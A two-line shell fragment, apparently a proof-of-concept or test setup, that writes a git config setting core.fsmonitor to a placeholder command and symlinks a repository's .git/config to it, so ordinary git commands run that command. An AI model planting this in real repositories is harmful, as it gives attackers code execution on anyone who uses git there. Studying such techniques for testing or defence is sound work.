printf '[core]\nfsmonitor = %s\n' "$EVIL" >"$OUTSIDE/config"
ln -sf "$OUTSIDE/config" .git/config
